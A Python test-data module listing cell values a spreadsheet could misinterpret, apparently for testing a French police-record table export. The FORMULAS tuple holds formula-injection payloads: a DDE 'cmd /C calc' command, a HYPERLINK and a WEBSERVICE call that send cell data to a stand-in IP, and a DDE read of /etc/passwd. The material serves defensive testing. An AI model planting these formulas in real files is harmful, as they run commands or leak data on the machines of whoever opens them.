"""Texts that a spreadsheet would make something else of, or that would act on whoever opens the table."""

from __future__ import annotations

from itertools import product

FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1;1)", '=HYPERLINK("http://192.0.2.1/"&A1;"x")', "=cmd|' /C calc'!A0"),
    *('=WEBSERVICE("http://192.0.2.1/")', '=DDE("soffice";"/etc/passwd";"A1")', "\uff1d1+1", "\u22121", "--1"),
)
LEADS = ("", " ", "\u00a0", "\t", "\n", "\r\n", '"', "'", ";", ',"', "x;", "\u200b")
NUMBERS = (
    *("0", "7", "0012", "000000000000", "12345678901234567890", "1E5", "1e5", "1E+05", "3e10", "8e10", "12E-3", "1.50"),
    *("1,50", ",5", ".5", "-,5", "(12)", "( 12 )", "12-", "12+", "€12", "€ 12", "12 €", "12,00 €", "$12", "$ 12"),
    *("£12", "12%", "12 %", "% 12", " 12", "12 ", "\u00a012", "12\u00a0345", "12\u202f345", "12 345", "12.345,67"),
    *("12,345.67", "1 1/2", "1/2", "12 345E3", "１２", "'12", "'0012", '"12', "12/", "0x1F", "1'000", "1_000"),
)
DATES = (
    *("2026-03-02", "2026-3-2", "02/03/2026", "2/3", "2-3", "2.3", "1.2.3", "10.1.2026", "2026-03", "03/2026", "1-2-3"),
    *("2026-03-01 08:00:00", "2026-03-01T08:00:00", "2026-03-01T08:00:00.123", "2026-03-01T08:00:00Z", "12:30"),
    *("12:30:15", "12:30:15,25", "5 pm", "5:00 pm", "5 am", "12h30", "24:00", "3 mars", "3 mars 2026", "mars 2026"),
    *("mars-3", "MARS 26", "mar-3", "MAR-3", "mai 26", "Mai 3", "May 3", "March 3, 2026", "sept. 3", "sept 3", "déc 3"),
    *("dec 3", "décembre 2026", "février-26", "fév. 26", "août 3", "aout 3", "juin 1", "juil. 14", "jan 26", "jan/26"),
    *(
        "lundi 2 mars 2026",
        "lun. 2 mars 2026",
        "lundi mars 2",
        "Monday, March 2, 2026",
        "Mon 2",
        "dimanche 1",
        "1er mars",
    ),
)
OTHERS = (
    *("TRUE", "FALSE", "true", "False", "VRAI", "FAUX", "vrai", " faux ", '"VRAI"', "#N/A", "#REF!", "#DIV/0!"),
    *("#VALEUR!", "#NOM?", "# 12", "8d7e0f0c", "12e45678", "192.0.2.7", "2001:db8::1", "12 rue des Lilas", "'abc", "'"),
)
# References, names and prose as they are usual, which are left as they are.
USUAL = (
    *(
        "PM 93",
        "MC-2026-04127",
        "PV n° 12/2026",
        "agent-7",
        "martin2",
        "m.dupont",
        "main-courante/4",
        "E5",
        "A1",
        "INF",
    ),
    *("NaN", "mars", "lundi", "lundi soir", "Relecture avant transmission au parquet", "vraie", "½", "²", "/12", ":30"),
    *("éèêëàâäîïôöùûüÿçœæÉÈÀÇŒ «N° 12» — l’été à Nîmes, 12 €", "Ünal é العربية 中文 👮", "l'apostrophe", 'dit "X"'),
)
HOSTILE = tuple(dict.fromkeys((*("".join(pair) for pair in product(LEADS, FORMULAS)), *NUMBERS, *DATES, *OTHERS)))
